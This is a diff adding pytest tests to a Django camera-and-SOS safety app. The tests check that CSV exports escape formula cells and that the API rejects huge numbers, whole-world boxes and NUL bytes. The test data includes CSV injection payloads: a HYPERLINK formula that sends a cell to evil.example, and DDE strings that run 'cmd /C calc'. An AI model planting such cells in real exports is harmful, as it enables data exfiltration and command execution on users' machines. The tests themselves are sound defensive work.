@@ -149,3 +149,155 @@ def test_other_digits_do_not_slip_past_the_guardian_checks():
     again = user.client.post("/api/v1/guardians/", {"name": "엄마", "phone": ARABIC_INDIC}, format="json")
     assert again.status_code == 400 and "phone" in again.json()
     assert list(Guardian.objects.values_list("phone", flat=True)) == [ASCII]
+
+
+# --- formula cells in CSV exports ---------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]
+
+
+def _hostile_camera() -> None:
+    """As a standard-data file from outside would bring it: formulas in the text columns."""
+    import csv
+    import io
+
+    from cameras.exporting import STANDARD_COLUMNS
+    from cameras.importing import import_cameras
+
+    row = dict.fromkeys(STANDARD_COLUMNS, "")
+    row.update({"관리기관명": "경기도 화성시청", "WGS84위도": "37.2", "WGS84경도": "126.9"})
+    text_columns = ["관리번호", "소재지도로명주소", "소재지지번주소", "촬영방면정보", "관리기관전화번호",
+                    "설치목적구분"]
+    row.update(zip(text_columns, FORMULAS, strict=False))
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerows([STANDARD_COLUMNS, [row[name] for name in STANDARD_COLUMNS]])
+    assert import_cameras(io.BytesIO(out.getvalue().encode("utf-8"))).created == 1
+
+
+def _formula_cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    from hwaseong_safety.csvsafe import FORMULA_STARTS
+
+    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
+    numeric = re.compile(r"\A-?[0-9.]+\Z")
+    return [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not numeric.match(cell)]
+
+
+def test_the_camera_export_writes_no_formula(tmp_path):
+    from django.core.management import call_command
+
+    from cameras.admin_views import export_response
+    from cameras.models import Camera
+
+    _hostile_camera()
+    response = export_response(Camera.objects.all(), encoding="utf-8")  # the admin action's file
+    assert _formula_cells(response.content.decode("utf-8-sig")) == []
+    assert "'=HYPERLINK" in response.content.decode("utf-8-sig")
+    path = tmp_path / "out.csv"
+    call_command("export_cameras", str(path), stderr=__import__("io").StringIO())
+    assert _formula_cells(path.read_text(encoding="utf-8-sig")) == []
+
+
+def test_an_escaped_export_reimports_as_it_was(tmp_path):
+    import io
+
+    from cameras.exporting import write_standard_csv
+    from cameras.importing import import_cameras
+    from cameras.models import Camera
+
+    _hostile_camera()
+    out = io.StringIO()
+    write_standard_csv(Camera.objects.all(), out)
+    report = import_cameras(io.BytesIO(out.getvalue().encode("utf-8")))
+    assert (report.created, report.updated, report.unchanged) == (0, 0, 1)
+    assert Camera.objects.get().management_number == FORMULAS[0]
+
+
+def test_csv_cells_keep_plain_numbers_and_escape_the_rest():
+    from hwaseong_safety.csvsafe import safe_cell
+
+    plain = ("-1", "-126.9", "+82", "1e-5", None, 3)
+    assert [safe_cell(v) for v in plain] == ["-1", "-126.9", "+82", "1e-5", "", "3"]
+    assert [safe_cell(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
+    assert safe_cell("평범한 글") == "평범한 글"
+
+
+# --- huge numbers, whole-world boxes and NUL bytes in addresses -----------------------------------
+
+@pytest.fixture
+def operator_client(client):
+    from tests.factories import make_staff
+
+    client.force_login(make_staff("op"))
+    return client
+
+
+@pytest.mark.parametrize("bbox", ["-180,-90,180,90", "-179,-89,179,89", "-180,0,180,90", "0,-90,180,90"])
+def test_world_sized_boxes_answer_the_cameras_in_them(operator_client, bbox):
+    """Great-circle edges read these as slivers the other way round (0 cameras) or failed on
+    antipodal corners (a 500); a map box is a range of longitudes and latitudes."""
+    from tests.factories import make_camera
+
+    korea = make_camera(126.83, 37.20)
+    response = operator_client.get("/api/v1/cameras/", {"bbox": bbox})
+    assert response.status_code == 200, response.content[:200]
+    ids = [feature["id"] for feature in response.json()["features"]]
+    assert ids == [korea.id]
+
+
+@pytest.mark.parametrize("bbox", ["170,-10,-170,10", f"126,37,{'9' * 400},38", "1e309,37,127,38",
+                                  "126\x00,37,127,38"])
+def test_impossible_boxes_are_400(operator_client, bbox):
+    assert operator_client.get("/api/v1/cameras/", {"bbox": bbox}).status_code == 400
+
+
+@pytest.mark.parametrize("query", [{"latitude": "9" * 400, "longitude": "126.9"},
+                                   {"latitude": "37.2", "longitude": "126.9", "limit": "9" * 40},
+                                   {"latitude": "37.2", "longitude": "126.9", "radius": "1e309"},
+                                   {"latitude": "37.2\x00", "longitude": "126.9"}])
+def test_nearest_with_huge_numbers_or_nul_is_400(operator_client, query):
+    assert operator_client.get("/api/v1/cameras/nearest/", query).status_code == 400
+
+
+@pytest.mark.parametrize("path", ["/t/abc%00def/", "/api/v1/alerts/%00/",
+                                  "/admin/cameras/camera/%00/change/"])
+def test_nul_in_a_path_is_400(admin_client, path):
+    admin_client.raise_request_exception = False
+    assert admin_client.get(path).status_code in (400, 404)
+
+
+@pytest.mark.parametrize("latitude", ["1e999", "9" * 400, "-" + "9" * 400])
+def test_an_sos_with_absurd_numbers_is_still_an_sos(city, latitude):
+    """Never refused for its location (docs/app-api.md): the location is dropped, the SOS kept."""
+    user = make_app_user(guardian=False)
+    body = ('{"client_id": "00000000-0000-4000-8000-000000000001", "trigger": "button", '
+            f'"location": {{"latitude": {latitude}, "longitude": 126.9}}}}')
+    response = user.client.post("/api/v1/alerts/", body, content_type="application/json")
+    assert response.status_code == 201, response.content[:300]
+    assert Alert.objects.get().location is None
+
+
+@pytest.mark.parametrize("fix", ['{"latitude": %s, "longitude": 126.9}' % ("9" * 400),
+                                 '{"latitude": 37.2, "longitude": 126.9, "accuracy": 1e999}',
+                                 '{"latitude": "37.2\\u0000", "longitude": 126.9}'])
+def test_trip_locations_with_absurd_numbers_or_nul_are_400(city, fix):
+    from tests.alerts.test_trips import start
+
+    user = make_app_user(guardian=False)
+    trip_id = start(user).json()["id"]
+    before = TripLocation.objects.count()
+    response = user.client.post(f"/api/v1/trips/{trip_id}/locations/", f'{{"locations": [{fix}]}}',
+                                content_type="application/json")
+    assert response.status_code == 400, response.content[:300]
+    assert TripLocation.objects.count() == before
+
+
+@pytest.mark.parametrize("name", ["\x00", "a\x00b"])
+def test_nul_in_text_fields_is_400(name):
+    response = APIClient().post("/api/v1/app/register", {"phone": ASCII, "name": name}, format="json")
+    assert response.status_code == 400 and nothing_stored()
